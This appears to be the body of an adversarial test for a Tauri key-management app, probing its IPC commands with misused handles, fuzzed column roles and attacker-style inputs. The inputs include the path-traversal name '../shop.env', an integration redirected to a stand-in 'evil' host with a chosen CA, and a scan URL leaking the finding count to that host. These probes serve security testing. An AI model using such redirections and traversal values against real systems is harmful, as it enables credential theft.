// The body of an async function; `given[0]` names the stage and what a person opened: one file with many keys, one with a
// key, one with an authority, a folder. Uses each handle for everything, with every meaning of every column.
const { client, integration, mine, evil, bulk, columns, file, names, ca, folder } = given[0];
const width = columns.length;
// A question to a person takes as long as their no.
const asking = 5000;
const invoke = window.__TAURI_INTERNALS__.invoke;
const channel = () => `__CHANNEL__:${window.__TAURI_INTERNALS__.transformCallback(() => {})}`;
const outcomes = {};
const attempt = async (name, work, most) => {
  const late = new Promise((done) => setTimeout(done, most, "waiting"));
  const outcome = await Promise.race([work.then(() => "answered", (why) => why?.code ?? String(why)), late]);
  const all = (outcomes[name] ??= {});
  all[outcome] = (all[outcome] ?? 0) + 1;
};

const meanings = [
  { role: "ignore" }, { role: "client" }, { role: "integration" }, { role: "provider" }, { role: "environment" },
  { role: "base_url" }, { role: "variable", name: "*" }, { role: "variable", name: "store_domain" },
  { role: "key", part: "*" }, { role: "key", part: "token" }, { role: "key", part: "consumer_secret" },
];
const map = (columns) => attempt("bulk_map", invoke("bulk_map", { handle: bulk, columns, offset: 0, limit: 500 }), 5000);
const take = () => attempt("bulk_take_in", invoke("bulk_take_in", { handle: bulk, progress: channel() }), asking);

// As the file means it, then each column as anything, the others as anything else in turns; now and then what came of it is to be taken in.
await map(columns);
await take();
for (let column = 0; column < width; column += 1) {
  for (let at = 0; at < meanings.length; at += 1) {
    await map(Array.from({ length: width }, (_, i) => meanings[(i === column ? at : at + i + column) % meanings.length]));
    if ((column + at) % 5 === 0) await take();
  }
}
for (const role of meanings) await map(Array.from({ length: width }, () => role));
await map(columns);
await take();

// The key of the one file, for the attacker's own integration, under any part and name.
for (const target of [integration, mine]) {
  for (const part of ["token", "api_key"]) {
    for (const name of [...names, "", "../shop.env"]) {
      await attempt("key_add_file", invoke("key_add_file", { integration: target, part, handle: file, name }), asking);
    }
  }
}

// A destination of the attacker's, with the authority that a person chose.
for (const authority of [ca, file, bulk]) {
  const view = await invoke("integration", { id: integration });
  const turned = { ...view.input, base_url: evil, ca_pem: authority };
  const edit = { id: integration, revision: view.revision, input: turned };
  await attempt("integration_edit", invoke("integration_edit", edit), asking);
}

// The folder's findings, looked at in every way and accepted for whatever reason; of it there is one scan.
const look = { client, git: true, shapes: true, rack: true };
for (const handle of [bulk, file, ca]) await attempt("as a folder", invoke("scan_folder", { handle, input: look }), asking);
await attempt("as a file", invoke("key_add_file", { integration: mine, part: "token", handle: folder, name: names[0] }), asking);
await attempt("as a table", invoke("bulk_map", { handle: folder, columns: [meanings[1]], offset: 0, limit: 9 }), asking);
const { id } = await invoke("scan_folder", { handle: folder, input: look });
while ((await invoke("scan", { id })).state === "running") await new Promise((done) => setTimeout(done, 100));
const found = (await invoke("scan_findings", { id, offset: 0, limit: 500 })).rows;
outcomes.found = found.map((finding) => finding.class).sort();
for (const finding of found) {
  for (const reason of ["", integration, finding.tag, finding.key?.fingerprint ?? "x", `${evil}/${finding.place}`]) {
    await attempt("finding_accept", invoke("finding_accept", { finding: finding.id, reason }), asking);
  }
  await attempt("finding_unaccept", invoke("finding_unaccept", { finding: finding.id }), asking);
}
await attempt("scan_unread", invoke("scan_unread", { id, offset: 0, limit: 500 }), asking);
await attempt("a second scan", invoke("scan_folder", { handle: folder, input: look }), asking);
await attempt("scan_site", invoke("scan_site", { url: `${evil}/?seen=${found.length}`, input: look }), asking);

// Each handle as what it is not, and after its end.
await attempt("as a file", invoke("key_add_file", { integration: mine, part: "token", handle: bulk, name: names[0] }), asking);
await attempt("as a table", invoke("bulk_map", { handle: file, columns: [meanings[1]], offset: 0, limit: 9 }), asking);
await attempt("as a table", invoke("bulk_take_in", { handle: ca, progress: channel() }), asking);
await invoke("key_file_close", { handle: file });
await attempt("closed", invoke("key_add_file", { integration: mine, part: "token", handle: file, name: names[0] }), asking);
return outcomes;
